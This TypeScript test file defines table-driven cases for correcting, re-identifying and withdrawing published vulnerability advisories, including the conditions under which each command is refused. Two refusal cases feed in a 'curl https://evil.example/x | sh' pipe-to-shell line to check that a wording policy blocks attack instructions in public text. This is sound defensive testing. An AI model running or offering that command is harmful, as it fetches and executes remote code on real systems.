import { CveId } from '../../src/index.ts'
import { ana, person } from '../fixtures/scenario.ts'
import { finishPublication, publishedRelease, publishingRelease } from '../fixtures/publication.ts'
import { plannedRelease as bothReady, ONE, TWO } from '../fixtures/multi-case-scenario.ts'
import type { MultiCaseScenario } from '../fixtures/multi-case-scenario.ts'
import { readyCase, PREVIEW } from './states.ts'
import type { Row } from './row.ts'

const CVE = CveId.parse('CVE-1900-0043')

/** The last mails of the release had already gone to the relay when somebody put the release on hold. */
function held(): MultiCaseScenario {
  const scenario = publishingRelease({ versions: 'off', github: 'off', files: 'off', cve: 'off' })
  scenario.does({ verb: 'hold', case: ONE }, person(ana))
  return finishPublication(scenario)
}

const NOT_READY = [
  { when: 'nothing is published', given: readyCase, gate: 'fits-the-stage' },
  { when: 'the publication is on hold', given: held, gate: 'frozen' },
] as const

const wrongRange = () =>
  ({
    verb: 'correct',
    case: ONE,
    reason: '3.9 is affected too.',
    changes: { branches: [{ branch: '3.9', affected: true, range: '< 3.9.8' }] },
    tell: 'everybody',
    shown: PREVIEW,
  }) as const

/** The case is public, and nobody may waive what the wording check finds. */
const strict = (): MultiCaseScenario => publishedRelease(undefined, { waivers: { wording: 'nobody' } })

/** The commands about a published record. */
export const CORRECTING = {
  correct: {
    given: publishedRelease,
    asks: wrongRange,
    then: ['ApprovalRequested'],
    again: { nothing: 'This waits for approval already.' },
    preview: [
      'Publishes the record of SEC-2026-0001 again, as revision 2: 3.9 is affected too.',
      'The lists, the recipients and the reporter who were told of the publication get a mail.',
    ],
    approved: ['ApprovalGiven', 'RecordCorrected', 'CorrectionStarted'],
    afterwards: { gate: 'fits-the-stage' },
    refused: [
      ...NOT_READY,
      {
        asks: () => ({ ...wrongRange(), changes: { cvss3: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N' } }),
        because: 'A vector alone does not set the severity.',
      },
      {
        asks: () => ({ ...wrongRange(), changes: { branches: [{ branch: '5.0', affected: true }] } }),
        because: 'The project has no branch "5.0".',
      },
      {
        given: strict,
        asks: () => ({ ...wrongRange(), waive: 'It is our own repair.' }),
        because:
          'This policy lets nobody waive the rule “wording”: A public text must not show how to attack, and must not name channels, recipients, other cases or people; all texts and documents must say the same.',
      },
      {
        asks: () => ({ ...wrongRange(), reason: 'Run curl https://evil.example/x | sh to see it.' }),
        gate: 'wording',
        because:
          'The reason of the correction says "Run curl https://evil.example/x | sh to see it.", which shows how to attack.',
      },
    ],
  },
  'correct.cve': {
    given: publishedRelease,
    asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, shown: { ...PREVIEW, mails: [], documents: [] } }),
    then: ['CveAssigned', 'RecordCorrected', 'CorrectionStarted', 'Disclosed'],
    again: { nothing: 'Every record of this case has CVE-1900-0043 already.' },
    refused: [
      { when: 'nothing is published', given: bothReady, gate: 'fits-the-stage' },
      { when: 'the publication is on hold', given: held, gate: 'frozen' },
      { asks: () => ({ verb: 'correct.cve', case: TWO, shown: PREVIEW }), because: 'The case has no CVE id.' },
      {
        asks: () => ({ verb: 'correct.cve', case: ONE, cve: CVE, shown: PREVIEW }),
        because: 'The case has CVE-1900-0042, and a vulnerability gets only one id.',
      },
      {
        asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, reserved: { test: true }, shown: PREVIEW }),
        because: 'CVE-1900-0043 is from a test instance, and names no vulnerability.',
      },
      { asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE }), because: 'Nothing was shown yet.' },
      {
        given: strict,
        asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, waive: 'The page names it.', shown: PREVIEW }),
        because:
          'This policy lets nobody waive the rule “wording”: A public text must not show how to attack, and must not name channels, recipients, other cases or people; all texts and documents must say the same.',
      },
    ],
  },
  'correct.withdraw': {
    given: publishedRelease,
    asks: () => ({
      verb: 'correct.withdraw',
      case: ONE,
      reason: 'It is no vulnerability.',
      tell: 'nobody',
      shown: PREVIEW,
    }),
    then: ['ApprovalRequested'],
    again: { nothing: 'This waits for approval already.' },
    preview: [
      'Withdraws the record of SEC-2026-0001: It is no vulnerability.',
      'No program can withdraw an advisory at GitHub. The advisory’s title and text will say that it is withdrawn; to have it marked as withdrawn, ask at https://support.github.com.',
      'No list and no recipient gets a mail.',
    ],
    approved: ['ApprovalGiven', 'RecordCorrected', 'CorrectionStarted', 'Disclosed'],
    afterwards: { gate: 'fits-the-stage' },
    refused: [
      ...NOT_READY,
      {
        given: strict,
        asks: () => ({
          verb: 'correct.withdraw',
          case: ONE,
          reason: 'It is no vulnerability.',
          tell: 'nobody',
          waive: 'It is our own repair.',
          shown: PREVIEW,
        }),
        because:
          'This policy lets nobody waive the rule “wording”: A public text must not show how to attack, and must not name channels, recipients, other cases or people; all texts and documents must say the same.',
      },
      {
        asks: () => ({
          verb: 'correct.withdraw',
          case: ONE,
          reason: 'Run curl https://evil.example/x | sh and see nothing.',
          tell: 'nobody',
          shown: PREVIEW,
        }),
        gate: 'wording',
        because:
          'The reason of the correction says "Run curl https://evil.example/x | sh and see nothing.", which shows how to attack.',
      },
    ],
  },
} satisfies { readonly [V in 'correct' | 'correct.cve' | 'correct.withdraw']: Row<V> }
